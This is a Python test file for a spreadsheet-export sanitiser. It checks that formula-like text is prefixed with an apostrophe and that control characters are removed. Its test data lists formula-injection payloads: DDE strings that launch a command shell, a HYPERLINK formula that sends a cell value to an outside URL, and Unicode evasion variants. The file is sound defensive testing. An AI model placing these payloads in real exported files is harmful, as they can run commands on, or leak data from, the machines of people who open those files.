"""No text of a person ever becomes a formula, and what is no text never gets into a file."""

from __future__ import annotations

import pytest

from journey.export.cells import guarded, looks_like_formula, one_line

FORMULAS = (
    "=1+1",
    "+31612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    '"=1+1"',
    "'=1+1",
    "\u201c=1+1\u201d",
    '" \t"=HYPERLINK("http://example.org?x="&A1;"klik")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121+1",
    '=DDE("cmd";"/C calc";"x")',
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_could_calculate_gets_an_apostrophe(text: str) -> None:
    assert looks_like_formula(text)
    assert guarded(text).startswith("'")


@pytest.mark.parametrize(
    "text", ["Het duurde te lang - veel te lang", "a=b", "6 + 1", "€ 23", "", "  ", "“Goed”"]
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


def test_breaks_become_blanks_and_controls_are_gone() -> None:
    assert one_line("een\r\n=twee\u2028drie\x00\x07\ud800\ufffe") == "een =twee drie"
